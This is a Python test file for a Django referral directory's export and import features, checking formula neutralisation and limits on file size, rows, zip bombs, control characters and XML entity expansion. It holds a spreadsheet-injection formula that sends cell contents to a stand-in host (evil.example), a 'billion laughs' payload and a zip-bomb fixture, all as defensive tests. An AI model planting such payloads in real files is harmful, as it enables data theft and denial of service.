"""Directory files: exports that carry no live formula (core.tabular), imports that read their
own exports back, and imports bounded in size, rows and zip content, the header checked first."""

import csv
import io
import time
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from openpyxl import Workbook, load_workbook

from gbvms.core.models import AccessLog
from gbvms.referrals import services_directory
from gbvms.referrals.models import ServiceProvider
from tests.core.test_uploads import bomb

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
IMPORTED = "referrals.directory.imported"


@pytest.fixture
def evil(network):
    shelter = network["shelter"]
    shelter.name = EVIL
    shelter.save()
    return shelter


def xlsx_with_rows(header, row, count):
    """An XLSX whose sheet has ``header`` then ``count`` copies of ``row``, its XML streamed
    straight into the zip (openpyxl would take minutes to write 300,000 rows)."""
    book = Workbook(write_only=True)
    book.create_sheet("providers").append(["x"])
    small = io.BytesIO()
    book.save(small)
    cells = "".join(f'<c t="inlineStr"><is><t>{v}</t></is></c>' for v in row)
    out = io.BytesIO()
    with zipfile.ZipFile(small) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for info in source.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                zf.writestr(info, source.read(info))
        with zf.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
                        b'2006/main"><sheetData>')  # fmt: skip
            head = "".join(f'<c t="inlineStr"><is><t>{v}</t></is></c>' for v in header)
            sheet.write(f'<row r="1">{head}</row>'.encode())
            for start in range(2, count + 2, 10_000):  # in chunks: fast and memory-light
                stop = min(start + 10_000, count + 2)
                chunk = "".join(f'<row r="{n}">{cells}</row>' for n in range(start, stop))
                sheet.write(chunk.encode())
            sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


def post_import(client, name, data):
    return client.post("/referrals/directory/import/", {"file": SimpleUploadedFile(name, data)})


@pytest.mark.django_db
class TestExportWritesNoFormula:
    def test_xlsx_cell_is_text_and_numbers_are_numbers(self, personas, as_user, evil):
        response = as_user(personas["admin"]).get("/referrals/directory/export.xlsx")
        assert response.status_code == 200
        sheet = load_workbook(io.BytesIO(response.content))["providers"]
        rows = list(sheet.iter_rows(min_row=2))
        cell = next(r[1] for r in rows if r[0].value == evil.pk)
        assert (cell.data_type, cell.value) == ("s", "'" + EVIL)
        beds = next(r[14] for r in rows if r[0].value == evil.pk)
        assert (beds.data_type, beds.value) == ("n", 10)
        assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]

    def test_csv_has_bom_and_neutralised_cell(self, personas, as_user, evil):
        response = as_user(personas["admin"]).get("/referrals/directory/export.csv")
        assert response.status_code == 200
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response.content.startswith(b"\xef\xbb\xbf")
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert rows[0] == services_directory.COLUMNS
        assert [r[1] for r in rows if r[0] == str(evil.pk)] == ["'" + EVIL]

    @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
    def test_an_export_imports_back_unchanged(self, personas, as_user, evil, fmt):
        client = as_user(personas["admin"])
        exported = client.get(f"/referrals/directory/export.{fmt}").content
        before = {p.pk: p.name for p in ServiceProvider.objects.all()}
        response = post_import(client, f"p.{fmt}", exported)
        assert response.status_code == 302, response.content.decode()[-3000:]
        assert {p.pk: p.name for p in ServiceProvider.objects.all()} == before
        assert ServiceProvider.objects.get(pk=evil.pk).name == EVIL  # the quote is not kept


@pytest.mark.django_db
class TestImportLimits:
    def test_a_wrong_header_is_refused_before_the_rows_are_read(self, personas, as_user, network):
        data = xlsx_with_rows(["ten", "co quan"], ["a", "b"], 300_000)
        started = time.perf_counter()
        with pytest.raises(ValidationError) as caught:
            services_directory.read_table("p.xlsx", data)
        assert time.perf_counter() - started < 1  # reading every row takes far longer
        assert caught.value.code == "header"
        csv_data = ("ten,co quan\n" + "a,b\n" * 300_000).encode()
        started = time.perf_counter()
        with pytest.raises(ValidationError) as caught:
            services_directory.read_table("p.csv", csv_data[:4_000_000])
        assert time.perf_counter() - started < 1
        assert caught.value.code == "header"
        count = ServiceProvider.objects.count()
        response = post_import(as_user(personas["admin"]), "p.xlsx", data)
        assert response.status_code == 400
        assert "Dòng tiêu đề phải là: id, name" in response.content.decode()
        assert ServiceProvider.objects.count() == count
        assert not AccessLog.objects.unscoped().filter(action=IMPORTED).exists()

    @override_settings(DIRECTORY_IMPORT_MAX_ROWS=2)
    def test_row_cap(self, personas, as_user, network):
        client = as_user(personas["admin"])
        exported = client.get("/referrals/directory/export.csv").content
        assert exported.count(b"\r\n") == 4  # the header and three providers of the province
        with pytest.raises(ValidationError) as caught:
            services_directory.read_table("p.csv", exported)
        assert caught.value.code == "too_many_rows"
        names = list(ServiceProvider.objects.values_list("name", flat=True))
        response = post_import(client, "p.csv", exported.replace(b"Tr", b"XX"))
        assert response.status_code == 400
        assert "Tệp có hơn 2 dòng dữ liệu; hãy chia thành nhiều tệp." in response.content.decode()
        assert list(ServiceProvider.objects.values_list("name", flat=True)) == names
        assert not AccessLog.objects.unscoped().filter(action=IMPORTED).exists()

    @override_settings(DIRECTORY_IMPORT_MAX_BYTES=256 * 1024)
    def test_size_cap(self, personas, as_user, network):
        client = as_user(personas["admin"])
        exported = client.get("/referrals/directory/export.csv").content
        padded = exported + b"\r\n" * (256 * 1024)  # blank lines, otherwise a valid file
        count = ServiceProvider.objects.count()
        response = post_import(client, "p.csv", padded)
        assert response.status_code == 400
        assert "Tệp quá lớn (tối đa 0.25 MB)." in response.content.decode()
        assert ServiceProvider.objects.count() == count
        assert not AccessLog.objects.unscoped().filter(action=IMPORTED).exists()

    def test_size_cap_default_is_5_mb(self):
        with pytest.raises(ValidationError) as caught:
            services_directory.read_table("p.csv", b"x" * (5 * 1024 * 1024 + 1))
        assert caught.value.code == "file_too_large"
        assert caught.value.messages == ["Tệp quá lớn (tối đa 5 MB)."]

    def test_an_xlsx_zip_bomb_is_refused(self, personas, as_user, network):
        data = bomb(200 * 1024 * 1024, name="xl/worksheets/sheet1.xml")
        count = ServiceProvider.objects.count()
        response = post_import(as_user(personas["admin"]), "p.xlsx", data)
        assert response.status_code == 400
        assert "Tệp XLSX khi giải nén lớn hơn 50 MB; không đọc tệp này." in (
            response.content.decode()
        )
        assert ServiceProvider.objects.count() == count

    def test_a_nul_byte_is_a_clear_error(self):
        header = ",".join(services_directory.COLUMNS)
        with pytest.raises(ValidationError) as caught:
            services_directory.read_table("p.csv", f"{header}\n1,a\x00b\n".encode())
        assert caught.value.code == "control_characters"
        assert caught.value.messages == ["Dòng 2 chứa ký tự điều khiển không hợp lệ."]


def test_an_entity_expansion_sheet_is_unreadable_not_expanded():
    """ "Billion laughs" in the sheet XML: the parser (expat ≥ 2.4) refuses it; a clear error."""
    entities = "".join(
        f'<!ENTITY l{i} "{("&l%s;" % (i - 1)) * 10}">' for i in range(1, 10)
    )  # fmt: skip
    doctype = f'<!DOCTYPE w [<!ENTITY l0 "lollollollol">{entities}]>'
    header = "".join(
        f'<c t="inlineStr"><is><t>{c}</t></is></c>' for c in services_directory.COLUMNS
    )
    sheet = (
        f'{doctype}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<sheetData><row r="1">{header}</row>'
        '<row r="2"><c t="inlineStr"><is><t>&l9;</t></is></c></row></sheetData></worksheet>'
    )
    book = Workbook(write_only=True)
    book.create_sheet("providers").append(["x"])
    small, out = io.BytesIO(), io.BytesIO()
    book.save(small)
    with zipfile.ZipFile(small) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for info in source.infolist():
            is_sheet = info.filename == "xl/worksheets/sheet1.xml"
            zf.writestr(info, sheet if is_sheet else source.read(info))
    started = time.perf_counter()
    with pytest.raises(ValidationError) as caught:
        services_directory.read_table("p.xlsx", out.getvalue())
    assert time.perf_counter() - started < 2
    assert caught.value.code == "unreadable"
